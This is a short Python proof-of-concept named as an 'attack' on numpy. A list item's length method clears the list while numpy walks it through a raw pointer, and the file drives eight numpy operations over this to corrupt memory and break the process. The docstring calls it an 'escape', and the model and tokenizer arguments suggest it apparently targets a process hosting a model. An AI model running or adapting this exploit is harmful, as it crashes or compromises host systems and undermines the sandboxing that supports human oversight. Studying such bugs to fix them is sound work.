"""Class: memory. Source: own find. Escape: the process breaks. numpy walks a list through a bare pointer, and
asks what is in it for its length, which clears the list."""

import numpy as np


class Item:
    def __len__(self):
        data.clear()
        kept.append([(3,)] * 500)
        return 1

    def __getitem__(self, i):
        if i:
            raise IndexError
        return 1


kept = []
data = []


def attack(model, tokenizer, address):
    column = np.zeros((501, 1))

    def assign():
        column[:] = data

    ways = [
        lambda: np.array(data),
        lambda: np.zeros(600)[data],
        lambda: np.zeros(3) + data,
        lambda: data == np.zeros(3),
        lambda: np.float64(1) * [data, 1],
        lambda: np.vectorize(abs)(data),
        lambda: np.apply_along_axis(len, 0, data),
        assign,
    ]
    for way in ways:
        data[:] = [Item()] + [(i,) for i in range(500)]
        try:
            way()
        except Exception:
            pass
